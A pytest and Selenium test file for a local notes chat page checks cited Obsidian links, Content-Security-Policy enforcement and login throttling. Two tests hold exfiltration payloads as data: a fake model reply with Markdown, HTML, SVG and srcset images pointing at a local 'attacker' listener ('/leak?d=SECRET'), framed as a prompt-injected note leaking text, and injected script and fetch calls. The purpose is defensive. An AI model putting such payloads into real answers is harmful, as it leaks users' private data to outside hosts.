"""The chat page in a real headless Chromium: `brain serve` as a user starts it, a question typed, cited links seen."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from tests.conftest import free_port, stop
from tests.doubles.openai_server import OpenAIDouble

CHROMIUM, CHROMEDRIVER = Path("/usr/bin/chromium"), Path("/usr/bin/chromedriver")
# Offline and quiet: no browser download, no update checks, no first-run pages (see shared/STACK-NOTES.md).
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--no-first-run", "--window-size=1400,1000"]

if not (CHROMIUM.exists() and CHROMEDRIVER.exists()):
    pytest.skip("no Chromium: `make install` (as root) installs Debian's chromium and chromium-driver",
                allow_module_level=True)
webdriver = pytest.importorskip("selenium.webdriver", reason="selenium is missing: `make install` installs it")

from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.common.keys import Keys  # noqa: E402
from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402


def wait_until_up(url: str, server: subprocess.Popen[str], timeout: float = 120.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if server.poll() is not None:
            pytest.fail(f"brain serve exited {server.returncode}: {server.stdout.read() if server.stdout else ''}")
        try:
            with urllib.request.urlopen(url, timeout=2):
                return
        except OSError:
            time.sleep(0.5)
    pytest.fail(f"brain serve did not answer on {url} within {timeout:.0f} s")


@pytest.fixture
def start_page(sample_home: Path, tmp_path: Path) -> Iterator[Callable[..., str]]:
    """`start_page(**env)` runs `brain serve` over a copy of the synced sample home with Obsidian links on (the copy
    keeps the shared home as it was) and returns the page's URL."""
    servers: list[subprocess.Popen[str]] = []

    def start(**extra_env: str) -> str:
        home = tmp_path / f"home-{len(servers)}"
        shutil.copytree(sample_home, home)
        (home / "config.toml").write_text("[serve]\nobsidian = true\n", encoding="utf-8")
        port = free_port()
        env = {k: v for k, v in os.environ.items() if k not in ("LLM_BASE_URL", "LLM_MODEL", "BRAIN_HOME")}
        brain = Path(sys.executable).with_name("brain")
        server = subprocess.Popen([str(brain), "--home", str(home), "serve", "--port", str(port)],
                                  env=env | extra_env, text=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        servers.append(server)
        url = f"http://127.0.0.1:{port}/"
        wait_until_up(url, server)
        return url

    yield start
    for server in servers:
        stop(server)


@pytest.fixture
def page_url(start_page: Callable[..., str]) -> str:
    return start_page()


@pytest.fixture
def browser() -> Iterator[webdriver.Chrome]:
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for flag in CHROMIUM_FLAGS:
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=webdriver.ChromeService(str(CHROMEDRIVER)), options=options)
    yield driver
    driver.quit()


def policy_violations(driver: webdriver.Chrome) -> list[str]:
    """What Chromium refused because of the page's Content-Security-Policy (from its console)."""
    return [entry["message"] for entry in driver.get_log("browser") if "Content Security Policy" in entry["message"]]


def movie_links(driver: webdriver.Chrome) -> list[str]:
    """Links inside the chat whose text or target names the 电影清单 note."""
    found = []
    for link in driver.find_elements(By.CSS_SELECTOR, "[data-testid='bot'] a"):
        text, href = link.text, unquote(link.get_attribute("href") or "")
        if "电影清单" in text or "电影清单" in href:
            found.append(href)
    return found


def test_question_in_the_browser_gets_a_cited_answer(page_url: str, browser: webdriver.Chrome,
                                                     tmp_path: Path) -> None:
    browser.get(page_url)
    question = WebDriverWait(browser, 60).until(lambda d: d.find_element(By.CSS_SELECTOR, "#question textarea"))
    question.send_keys("我想看哪些电影？")
    question.send_keys(Keys.ENTER)

    links = WebDriverWait(browser, 180).until(movie_links)
    assert any(href.startswith("obsidian://open?vault=sample_vault&file=生活/电影清单.md") for href in links), links

    screenshot = tmp_path / "chat-page.png"
    browser.save_screenshot(str(screenshot))
    print(f"screenshot: {screenshot}")
    assert screenshot.stat().st_size > 10_000

    browser.find_element(By.XPATH, "//button[normalize-space()='Show related notes']").click()
    WebDriverWait(browser, 60).until(lambda d: "Related to 电影清单" in d.find_element(By.TAG_NAME, "body").text)
    assert not policy_violations(browser), "the page's own assets must work under its Content-Security-Policy"


class Listener:
    """An attacker's server on 127.0.0.1 that records every request it gets: the page must send it nothing."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                listener.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a")

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                """Quiet."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


def ask_in_browser(driver: webdriver.Chrome, url: str, question: str) -> None:
    driver.get(url)
    box = WebDriverWait(driver, 60).until(lambda d: d.find_element(By.CSS_SELECTOR, "#question textarea"))
    box.send_keys(question)
    box.send_keys(Keys.ENTER)


def test_an_answer_cannot_make_the_browser_fetch_anything(start_page: Callable[..., str],
                                                          browser: webdriver.Chrome) -> None:
    """A note (or a model obeying one) that asks for an image would leak note text in the image's URL."""
    listener = Listener()
    leak = f"{listener.base}/leak?d=SECRET"
    reply = (f"ok [1]. ![c]({leak}-md) <img src=\"{leak}-html\"> <IMG SRC={leak}-upper> [more]({leak}-link) "
             f"{leak}-bare <a href=\"{leak}-anchor\">x</a> ![r][ref] <svg><image href=\"{leak}-svg\"/></svg>\n\n"
             f"[ref]: {leak}-ref\n\n<picture><source srcset=\"{leak}-srcset\"></picture>\n\n"
             "Done, see **电影清单** [1].")

    def answer(body: dict[str, Any]) -> str:
        return reply if body.get("stream") else "1. 电影"

    try:
        with OpenAIDouble([answer]) as llm:
            url = start_page(LLM_BASE_URL=llm.url, LLM_MODEL="qwen2.5")
            ask_in_browser(browser, url, "我想看哪些电影？")
            WebDriverWait(browser, 180).until(movie_links)
            time.sleep(2)  # time for any image the page would load
            bubble = browser.find_elements(By.CSS_SELECTOR, "[data-testid='bot']")[-1]
            hrefs = [a.get_attribute("href") or "" for a in bubble.find_elements(By.TAG_NAME, "a")]
            images = bubble.find_elements(By.CSS_SELECTOR, "img, image, picture, source, svg")
            text = bubble.text
    finally:
        listener.close()
    assert listener.paths == []
    assert not [h for h in hrefs if listener.base in h], hrefs
    assert images == []
    assert "ok [1]." in text and "more" in text and "Done, see 电影清单 [1]." in text
    assert f"<img src=\"{listener.base}" in text  # shown as the text it is


def test_the_content_security_policy_blocks_what_sanitising_might_miss(page_url: str,
                                                                      browser: webdriver.Chrome) -> None:
    """The second line of defence: even markup planted in the page cannot load from, or send to, another host."""
    listener = Listener()
    try:
        browser.get(page_url)
        WebDriverWait(browser, 60).until(lambda d: d.find_element(By.CSS_SELECTOR, "#question textarea"))
        browser.execute_script(
            "const base = arguments[0];"
            "document.body.insertAdjacentHTML('beforeend', `<img src=\"${base}/img\"><script src=\"${base}/js\">"
            "</script><link rel=\"stylesheet\" href=\"${base}/css\">`);"
            "fetch(`${base}/fetch`).catch(() => {}); new Image().src = `${base}/image`;", listener.base)
        time.sleep(2)
        violations = policy_violations(browser)
    finally:
        listener.close()
    assert listener.paths == []
    assert any("img-src" in v for v in violations) and any("connect-src" in v for v in violations), violations


def test_the_login_form_works_under_the_policy_and_stops_a_guesser(start_page: Callable[..., str],
                                                                   browser: webdriver.Chrome) -> None:
    url = start_page(BRAIN_UI_USER="me", BRAIN_UI_PASSWORD="right-password-1")

    def log_in(password: str) -> None:
        user, secret = WebDriverWait(browser, 60).until(lambda d: d.find_elements(By.CSS_SELECTOR, "input"))[:2]
        user.clear()
        user.send_keys("me")
        secret.clear()
        secret.send_keys(password)
        browser.find_element(By.XPATH, "//button[normalize-space()='Login']").click()

    browser.get(url)
    log_in("right-password-1")
    WebDriverWait(browser, 60).until(lambda d: d.find_elements(By.CSS_SELECTOR, "#question textarea"))
    assert not policy_violations(browser)

    browser.delete_all_cookies()
    browser.get(url)
    for _ in range(5):
        log_in("guess")
        time.sleep(0.5)
    log_in("right-password-1")  # the right password, but too late: this client must wait
    time.sleep(2)
    assert not browser.find_elements(By.CSS_SELECTOR, "#question textarea")
    assert "Incorrect Credentials" in browser.find_element(By.TAG_NAME, "body").text
